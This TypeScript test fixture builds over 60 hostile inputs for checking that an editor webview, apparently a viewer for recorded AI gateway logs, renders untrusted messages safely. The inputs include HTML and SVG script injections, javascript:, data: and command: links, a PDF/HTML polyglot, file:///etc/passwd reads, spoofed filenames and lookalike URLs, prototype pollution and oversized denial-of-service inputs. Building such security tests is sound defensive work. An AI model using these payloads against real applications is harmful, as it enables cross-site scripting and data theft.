/** Malicious content of a recording. */
export type Attack = {
  name: string;
  text: string;
  /** Too long for places other than texts. */
  long?: boolean;
};

/** Traces that an executed attack would leave, in whichever window it ran. */
const RUN = "window.pwned=parent.pwned=top.pwned=1";

const base64 = (text: string): string => Buffer.from(text).toString("base64");

/** A PDF that is also an HTML page, and tries to run scripts and send requests. */
const PDF = (host: string): string => `%PDF-1.7
<script>${RUN}</script>
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${RUN};app.alert(1))>>/AA<</O<</S/URI/URI(${host}/pdf)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 50]/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/Contents 4 0 R/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 50]/A<</S/URI/URI(javascript:${RUN})>>>>]>>endobj
4 0 obj<</Length 38>>stream
BT /F1 12 Tf 10 20 Td (polyglot) Tj ET
endstream endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** Over 60 attempts to break out of a message. `host` is an address that must receive no request. */
export function attacks(host: string): Attack[] {
  const html: Record<string, string> = {
    "a script": `<script>${RUN}</script>`,
    "a script after the end of one": `</script><script>${RUN}</script>`,
    "a script after the end of the page": `</main></body></html><script>${RUN}</script>`,
    "an image that fails": `<img src=x onerror="${RUN}">`,
    "an image from elsewhere": `<img src="${host}/pixel.png">`,
    "images for all screens": `<img srcset="${host}/a.png 1x, ${host}/b.png 2x"><picture><source srcset="${host}/c.webp"></picture>`,
    "a frame": `<iframe src="${host}/frame"></iframe>`,
    "a frame with a page in it": `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    "an object": `<object data="${host}/object"></object><embed src="${host}/embed"><applet code="${host}/applet">`,
    "a style sheet": `<link rel="stylesheet" href="${host}/style.css"><link rel="preconnect" href="${host}">`,
    "a style": `<style>*{display:none!important}body{background:url(${host}/background)}</style>`,
    "a cover over all": `<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>`,
    "a form": `<form action="${host}/form"><input name="token" autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
    "another base": `<base href="${host}/">`,
    "a refresh": `<meta http-equiv="refresh" content="0;url=${host}/refresh">`,
    "media that play": `<video src="${host}/video" autoplay onloadstart="${RUN}"></video><audio src="${host}/audio" autoplay>`,
    "a fold that opens": `<details open ontoggle="${RUN}"><summary>summary</summary></details>`,
    "a marquee": `<marquee onstart="${RUN}" behavior="alternate">moving</marquee><body onload="${RUN}">`,
    "a template": `<template><script>${RUN}</script></template><slot name="slot"></slot>`,
    "a command's address": `<a href="command:workbench.action.closeWindow" target="_top">close</a>`,
    "a script's address": `<a href="javascript:${RUN}">click</a><a href=" &#x6A;avascript:${RUN}">click</a>`,
    comments: `<!-- comment --><![CDATA[ data ]]><!--><script>${RUN}</script>--><?php ${RUN} ?>`,
    "mathematics that mutate": `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    "a page without scripts": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    "elements of the page's own": `<vscode-button autofocus onfocus="${RUN}">press</vscode-button><vscode-progress-ring>`,
    "a dialog": `<dialog open>dialog</dialog><button popovertarget="log">popover</button><div popover>popover</div>`,
    "names of the page's own": `<form id="log"><input name="acquireVsCodeApi"></form><div id="view"></div><img name="body">`,
    "what is escaped already": `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;&nbsp;&amp;`,
    "a drawing that loads": `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
    "a drawing from elsewhere": `<svg><use href="${host}/x.svg#a"/><image href="${host}/i.png"/></svg>`,
    "a drawing that moves": `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
    "a drawing with a page in it": `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
    "tags that never end": `<div <p <b onmouseover="${RUN}" <img src=x onerror=${RUN} <`,
  };
  const markdown: Record<string, string> = {
    "a link to a script": `[click](javascript:${RUN})`,
    "a link to a hidden script": `[click](JaVaScRiPt&colon;${RUN}) [tab](java\tscript:${RUN}) [entity](javas&#99;ript:${RUN})`,
    "a link to a page": `[click](data:text/html;base64,${base64(`<script>${RUN}</script>`)})`,
    "a link to a command": `[click](command:workbench.action.terminal.new?%5B%5D)`,
    "a link to the editor": `[click](vscode://ai-gateway-logs/open) [resource](vscode-resource://file/etc/passwd)`,
    "a link to a webview": `[click](vscode-webview://panel/index.html) [app](vscode-file://vscode-app/etc/passwd)`,
    "a link to a file": `[click](file:///etc/passwd) [share](\\\\attack.test\\share)`,
    "a picture": `![pixel](${host}/markdown.png "title")`,
    "a picture with a script": `![drawing](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)})`,
    "a picture by reference": `![drawing][reference]\n\n[reference]: ${host}/reference.png "title"`,
    "a link by reference": `[click][evil]\n\n[evil]: javascript:${RUN}`,
    "automatic links": `<javascript:${RUN}> <command:workbench.action.quit> <${host}/auto>`,
    "bare addresses": `${host}/bare?a=<script>${RUN}</script> https://bank.test@attack.test/path`,
    "a link that names another": `[https://bank.test/login](https://attack.test/login)`,
    "a link that turns around": `[exe.\u202egnp.attack](https://attack.test/\u202egnp.exe)`,
    "a picture in a link": `[![pixel](${host}/i.png)](javascript:${RUN})`,
    "code of a page": `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    "code of a hostile language": `\`\`\`js" onload="${RUN}\nlet x = "<img src=x onerror=${RUN}>";\n\`\`\``,
    "code in what every object has": `\`\`\`constructor\nfirst\n\`\`\`\n\n\`\`\`__proto__\nsecond\n\`\`\``,
    "code that draws": `\`\`\`mermaid\ngraph LR; A-->B; click A href "javascript:${RUN}"\n\`\`\``,
    "code that never ends": `~~~~ts\n<script>${RUN}</script>`,
    "a title that ends early": `[click](https://attack.test "\\" onmouseover=${RUN} x=\\"")`,
    "a table": `| <script>${RUN}</script> | right |\n|---|--:|\n| <svg onload=${RUN}> | [click](javascript:${RUN}) |`,
    formulas: `$\\href{javascript:${RUN}}{x}$ and $$\\includegraphics{${host}/formula.png}$$`,
    "a footnote": `word[^1] and [^2]\n\n[^1]: <script>${RUN}</script>\n[^2]: ![x](${host}/note.png)`,
    "a heading": `# <img src=x onerror=${RUN}>\n\nheading\n===\n\n- [ ] <input type=checkbox onclick=${RUN}>`,
  };
  const other: Record<string, string> = {
    style: `expression(${RUN}); @import url(${host}/import.css); background:url(javascript:${RUN}); -moz-binding:url(${host}/xbl)`,
    "a style that ends": `</style><style>.bar,footer{display:none}</style>`,
    templates: `\${${RUN}} {{${RUN}}} <%=${RUN}%> #{${RUN}} {{constructor.constructor('${RUN}')()}}`,
    "templates of the page's own": `<!--?lit$123456789$--> <!--{{lit-0}}--> lit$123456789$ ?lit$`,
    "places in texts": `{0} {1} {9} %s %d %n %1$s $& $1 $\` $'`,
    icons: `$(alert) $(trash~spin) **bold** \`code\``,
    "a name turned around": `invoice\u202egnp.exe\u202c`,
    "directions that never end": `\u2067\u2066\u2068isolate\u202a\u202bembed\u200f\u200e\u061c`,
    "text without width": `admin\u200b\u200c\u200d\u2060\ufeff\u00ad\u180eistrator\u3164\u115f`,
    controls: `\u001b[31mred\u001b]8;;${host}\u0007link\u0008\u007f\u009b1m\u000b\u000c\r`,
    "halves of characters": `half \ud800 and \udfff and \ufffe\uffff`,
    "marks upon marks": `a${"\u0301\u0334\u0489".repeat(60)}zalgo`,
    "separators of lines": `line\u2028next\u2029paragraph\u0085end`,
    "invisible letters": `tag${String.fromCodePoint(0xe0001, 0xe0041, 0xe0042, 0xe007f)}end \ufe0f\u{1f3f4}\u{e0067}\u{e0062}`,
    "letters that look alike": `https://\u0430pple.com/ and http://xn--pple-43d.com/`,
    "from right to left": `\u0645\u0631\u062d\u0628\u0627 <b>world</b> \u05e9\u05dc\u05d5\u05dd 123`,
    "what every object has": `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`,
    "names of what every object has": "__proto__",
    "more names of what every object has": "hasOwnProperty",
    nothing: " ",
    "a drawing's bytes": `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`)}`,
    "a drawing's source": `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/%3E`,
    "a page's bytes": `data:text/html,<script>${RUN}</script>`,
    "a picture's type that ends early": `data:image/png" onerror="${RUN};base64,iVBORw0KGgo=`,
    "a picture that is a script": `data:image/gif;base64,${base64(`GIF89a/*\u0001\u0001*/=1;${RUN}`)}`,
    "a PDF that is a page": `data:application/pdf;base64,${base64(PDF(host))}`,
    "a file's address": `file:///etc/passwd`,
    "a blob's address": `blob:${host}/00000000-0000-0000-0000-000000000000`,
    "a picture's address": `${host}/image.png`,
    "an address without a scheme": `//attack.test/scheme.png`,
    "an address with a password": `http://user:password@attack.test/secret`,
    "a script's address alone": `javascript:${RUN}`,
    "a command's address alone": `command:workbench.action.closeWindow`,
  };
  const long: Record<string, string> = {
    "a word that never ends": `word${"W".repeat(20_000)}`,
    "quotes in quotes": `${">".repeat(5000)} deep`,
    "lists in lists": Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- item`).join("\n"),
    "brackets in brackets": `${"[".repeat(10_000)}text${"](x)".repeat(5000)}`,
    "pictures in pictures": `${"![".repeat(5000)}text`,
    "stars and underscores": `${"*_".repeat(10_000)}text`,
    ticks: Array.from({ length: 120 }, (_, count) => "`".repeat(count)).join(" text "),
    angles: `${"<".repeat(10_000)}text${"<a ".repeat(3000)}`,
    "JSON in JSON": `${'{"a":['.repeat(1500)}1${"]}".repeat(1500)}`,
    "a table of any size": `${"| cell ".repeat(150)}|\n${"|---".repeat(150)}|\n${`${"| cell ".repeat(150)}|\n`.repeat(20)}`,
    "lines without end": "line\n".repeat(4000),
  };
  return [
    ...Object.entries({ ...html, ...markdown, ...other }).map(([name, text]) => ({ name, text })),
    ...Object.entries(long).map(([name, text]) => ({ name, text, long: true })),
  ];
}
